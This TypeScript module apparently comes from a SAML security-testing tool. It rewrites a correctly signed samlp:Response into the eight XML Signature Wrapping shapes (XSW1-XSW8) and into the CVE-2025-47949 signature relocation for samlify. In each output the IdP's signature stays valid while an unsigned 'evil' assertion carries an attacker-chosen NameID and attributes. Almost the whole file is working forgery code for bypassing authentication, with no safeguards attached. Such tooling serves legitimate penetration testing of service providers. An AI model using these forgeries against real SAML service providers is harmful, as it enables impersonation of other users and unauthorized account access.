// XML Signature Wrapping: turn a correctly signed samlp:Response into the shapes of Somorovsky et
// al. (USENIX Security 2012) as SAML Raider numbers them (XSW1-XSW8), and into the signature
// relocation of CVE-2025-47949. Each shape keeps the IdP's signature intact over the original
// content while an evil copy sits where a careless SP reads the identity. Pure functions: text in,
// text out, through the safe parser; nothing is re-signed.
import { NS } from '../constants.ts';
import { type Document, type Element, attr, child, children, descendants, parseXml, serialize } from '../xml.ts';

export type XswShape = 'xsw1' | 'xsw2' | 'xsw3' | 'xsw4' | 'xsw5' | 'xsw6' | 'xsw7' | 'xsw8';

export const XSW_SHAPES: readonly XswShape[] = ['xsw1', 'xsw2', 'xsw3', 'xsw4', 'xsw5', 'xsw6', 'xsw7', 'xsw8'];

/** Which signature each shape needs in its input: the Response's own, or the first assertion's. */
export const XSW_SIGNED_ELEMENT: Record<XswShape, 'response' | 'assertion'> = {
  xsw1: 'response',
  xsw2: 'response',
  xsw3: 'assertion',
  xsw4: 'assertion',
  xsw5: 'assertion',
  xsw6: 'assertion',
  xsw7: 'assertion',
  xsw8: 'assertion',
};

/** One line per shape, for titles and evidence. */
export const XSW_DESCRIPTION: Record<XswShape, string> = {
  xsw1: 'unsigned copy of the signed Response inside its ds:Signature; the outer Response gets a new ID and the evil assertion',
  xsw2: 'unsigned copy of the signed Response just before its ds:Signature; the outer Response gets a new ID and the evil assertion',
  xsw3: 'unsigned evil assertion with a new ID inserted before the signed assertion',
  xsw4: 'unsigned evil assertion with a new ID holding the signed assertion inside it',
  xsw5: 'signed assertion edited to the evil identity with a new ID (signature kept); an unsigned copy of the original appended to the Response',
  xsw6: 'signed assertion edited to the evil identity with a new ID (signature kept); an unsigned copy of the original inside its ds:Signature',
  xsw7: 'samlp:Extensions before the signed assertion holding an unsigned evil copy with the same ID',
  xsw8: 'signed assertion edited to the evil identity (same ID, signature kept); an unsigned copy of the original in ds:Signature/ds:Object',
};

/** What the evil copy claims. */
export interface EvilIdentity {
  nameId: string;
  /** Attribute values to set, by Attribute Name (attributes that do not exist are not added). */
  attributes?: Record<string, string[]>;
}

export interface WrapOptions {
  /** ID for the evil element in the shapes that give it a new one. Default `_evil` + the original ID. */
  evilId?: string;
}

/** The ds:Signature that is a direct child of `el` and references el's own ID. */
function envelopedSignature(el: Element): Element | undefined {
  const id = attr(el, 'ID');
  return children(el, NS.ds, 'Signature').find((sig) => {
    const reference = descendants(sig, NS.ds, 'Reference')[0];
    return id !== undefined && attr(reference, 'URI') === `#${id}`;
  });
}

function responseRoot(doc: Document): Element {
  const root = doc.documentElement!;
  if (root.namespaceURI !== NS.samlp || root.localName !== 'Response') throw new Error(`expected a samlp:Response, got ${root.tagName}`);
  return root;
}

function signedResponse(doc: Document): { response: Element; signature: Element } {
  const response = responseRoot(doc);
  const signature = envelopedSignature(response);
  if (!signature) throw new Error('the Response carries no enveloped signature of its own (sign the Response for XSW1/XSW2)');
  return { response, signature };
}

function signedAssertion(doc: Document): { response: Element; assertion: Element; signature: Element } {
  const response = responseRoot(doc);
  for (const assertion of children(response, NS.saml, 'Assertion')) {
    const signature = envelopedSignature(assertion);
    if (signature) return { response, assertion, signature };
  }
  throw new Error('no saml:Assertion child of the Response carries its own enveloped signature (sign the assertion for this shape)');
}

/** A deep copy with the element's own enveloped signature removed: what the signature's digest covers. */
function unsignedCopy(el: Element): Element {
  const copy = el.cloneNode(true) as Element;
  const sig = envelopedSignature(copy);
  if (sig) copy.removeChild(sig);
  return copy;
}

function setText(el: Element, value: string): void {
  while (el.firstChild) el.removeChild(el.firstChild);
  el.appendChild(el.ownerDocument!.createTextNode(value));
}

/**
 * Rewrite one assertion to claim `evil`: its NameID, every AttributeValue that repeated the old
 * NameID (the usual email attribute), and the attributes the caller names.
 */
export function applyEvilIdentity(assertion: Element, evil: EvilIdentity): void {
  const subject = child(assertion, NS.saml, 'Subject');
  const nameId = subject && child(subject, NS.saml, 'NameID');
  if (!nameId) throw new Error('the assertion has no Subject/NameID to replace');
  const old = nameId.textContent ?? '';
  setText(nameId, evil.nameId);
  for (const statement of children(assertion, NS.saml, 'AttributeStatement')) {
    for (const attribute of children(statement, NS.saml, 'Attribute')) {
      const values = children(attribute, NS.saml, 'AttributeValue');
      const wanted = evil.attributes?.[attr(attribute, 'Name') ?? ''];
      if (wanted && values.length > 0) {
        const template = values[0].cloneNode(false) as Element;
        for (const v of values) attribute.removeChild(v);
        for (const value of wanted) {
          const v = template.cloneNode(false) as Element;
          setText(v, value);
          attribute.appendChild(v);
        }
        continue;
      }
      for (const v of values) if ((v.textContent ?? '') === old && old !== '') setText(v, evil.nameId);
    }
  }
}

function insertAfter(parent: Element, node: Element, ref: Element): void {
  parent.insertBefore(node, ref.nextSibling);
}

/** Apply one XSW shape to a signed Response (see XSW_SIGNED_ELEMENT for the signature it needs). */
export function wrapSignature(signedResponseXml: string, shape: XswShape, evil: EvilIdentity, options: WrapOptions = {}): string {
  const doc = parseXml(signedResponseXml);
  const newId = (original: string | undefined) => options.evilId ?? `_evil${original ?? ''}`;

  if (shape === 'xsw1' || shape === 'xsw2') {
    const { response, signature } = signedResponse(doc);
    const original = unsignedCopy(response);
    if (shape === 'xsw1') signature.appendChild(original);
    else response.insertBefore(original, signature);
    response.setAttribute('ID', newId(attr(response, 'ID')));
    const assertions = children(response, NS.saml, 'Assertion');
    if (assertions.length === 0) throw new Error('the Response has no saml:Assertion to make evil');
    for (const a of assertions) applyEvilIdentity(a, evil);
    return serialize(doc);
  }

  const { response, assertion, signature } = signedAssertion(doc);
  const originalId = attr(assertion, 'ID');
  switch (shape) {
    case 'xsw3': {
      const evilCopy = unsignedCopy(assertion);
      evilCopy.setAttribute('ID', newId(originalId));
      applyEvilIdentity(evilCopy, evil);
      response.insertBefore(evilCopy, assertion);
      break;
    }
    case 'xsw4': {
      const evilCopy = unsignedCopy(assertion);
      evilCopy.setAttribute('ID', newId(originalId));
      applyEvilIdentity(evilCopy, evil);
      response.replaceChild(evilCopy, assertion);
      evilCopy.appendChild(assertion);
      break;
    }
    case 'xsw5':
    case 'xsw6': {
      const original = unsignedCopy(assertion);
      assertion.setAttribute('ID', newId(originalId));
      applyEvilIdentity(assertion, evil);
      if (shape === 'xsw5') response.appendChild(original);
      else signature.appendChild(original);
      break;
    }
    case 'xsw7': {
      const evilCopy = unsignedCopy(assertion);
      applyEvilIdentity(evilCopy, evil);
      const extensions = doc.createElementNS(NS.samlp, `${response.prefix ? `${response.prefix}:` : ''}Extensions`);
      extensions.appendChild(evilCopy);
      // Schema position: after Issuer and the Response's Signature, before Status.
      const status = child(response, NS.samlp, 'Status');
      response.insertBefore(extensions, status ?? assertion);
      break;
    }
    case 'xsw8': {
      const original = unsignedCopy(assertion);
      applyEvilIdentity(assertion, evil);
      const object = doc.createElementNS(NS.ds, `${signature.prefix ? `${signature.prefix}:` : ''}Object`);
      object.appendChild(original);
      signature.appendChild(object);
      break;
    }
  }
  return serialize(doc);
}

/**
 * CVE-2025-47949 (samlify before 2.10): the assertion's signature moved up to the Response, the
 * original assertion (without it) hidden in samlp:Extensions, and an unsigned evil assertion with
 * a new ID as the Response's direct child. Needs a Response whose assertion is signed.
 */
export function relocateAssertionSignature(signedResponseXml: string, evil: EvilIdentity, options: WrapOptions = {}): string {
  const doc = parseXml(signedResponseXml);
  const { response, assertion, signature } = signedAssertion(doc);
  const evilCopy = unsignedCopy(assertion);
  evilCopy.setAttribute('ID', options.evilId ?? `_evil${attr(assertion, 'ID') ?? ''}`);
  applyEvilIdentity(evilCopy, evil);

  assertion.removeChild(signature);
  const issuer = child(response, NS.saml, 'Issuer');
  const ownSignature = child(response, NS.ds, 'Signature');
  const anchor = ownSignature ?? issuer;
  if (anchor) insertAfter(response, signature, anchor);
  else response.insertBefore(signature, response.firstChild);

  const extensions = doc.createElementNS(NS.samlp, `${response.prefix ? `${response.prefix}:` : ''}Extensions`);
  insertAfter(response, extensions, signature);
  response.replaceChild(evilCopy, assertion);
  extensions.appendChild(assertion);
  return serialize(doc);
}
